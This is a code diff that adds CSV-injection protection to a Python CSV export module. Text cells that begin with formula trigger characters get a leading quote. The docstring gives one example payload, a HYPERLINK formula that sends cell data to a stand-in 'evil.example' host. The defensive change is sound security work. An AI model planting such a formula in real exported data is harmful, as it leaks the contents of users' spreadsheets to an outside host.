@@ -20,6 +20,14 @@ The format, decided here and only here:
 * A cell holding a list is joined with :data:`MULTI_SEPARATOR` (``"; "``);
   ``None`` is an empty cell; anything else is written with ``str()``
   (so dates are ISO 8601, ``2023-12-01``).
+* **No formulas** (OWASP "CSV injection"): a spreadsheet runs a cell starting
+  with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return before one) as
+  a formula, e.g. ``=HYPERLINK("http://evil.example/?"&A1)`` in a
+  recommendation text. Every *text* cell starting with one of
+  :data:`FORMULA_TRIGGERS` is written with a single quote ``'`` before it
+  (:func:`neutralise`), which spreadsheets show as text. Numbers (``int``,
+  ``float``) are written as they are, so ``-5`` stays a negative number; a
+  list is checked once joined.
 """
 
 from __future__ import annotations
@@ -37,6 +45,8 @@ CONTENT_TYPE = "text/csv; charset=utf-8"
 MULTI_SEPARATOR = "; "
 #: Rows encoded per chunk: fewer, larger writes to the socket or file.
 ROWS_PER_CHUNK = 500
+#: First characters that make a spreadsheet read a text cell as a formula (OWASP).
+FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
 
 
 @dataclass(frozen=True)
@@ -64,6 +74,15 @@ def cell(value: Any) -> Any:
     return value
 
 
+def neutralise(value: Any) -> Any:
+    """``value`` as a CSV cell (:func:`cell`), a text starting with one of
+    :data:`FORMULA_TRIGGERS` prefixed with ``'``; numbers and other values unchanged."""
+    value = cell(value)
+    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
+        return "'" + value
+    return value
+
+
 class _Echo:
     """A write-only "file" for ``csv.writer``: ``write`` returns the line it was given."""
 
@@ -83,15 +102,16 @@ def csv_chunks(
         rows_per_chunk: data rows per yielded chunk (>= 1).
 
     Yields:
-        ``bytes``: first the BOM and the header row, then the data rows,
+        ``bytes``: first the BOM and the header row, then the data rows (text
+        cells neutralised, see :func:`neutralise`),
         ``rows_per_chunk`` at a time. Nothing is yielded after the last row,
         so an empty ``rows`` gives one chunk (BOM and header).
     """
     writer = csv.writer(_Echo())
-    yield (BOM + writer.writerow([c.header for c in columns])).encode("utf-8")
+    yield (BOM + writer.writerow([neutralise(c.header) for c in columns])).encode("utf-8")
     buffer: list[str] = []
     for row in rows:
-        buffer.append(writer.writerow([cell(c.get(row)) for c in columns]))
+        buffer.append(writer.writerow([neutralise(c.get(row)) for c in columns]))
         if len(buffer) >= rows_per_chunk:
             yield "".join(buffer).encode("utf-8")
             buffer.clear()
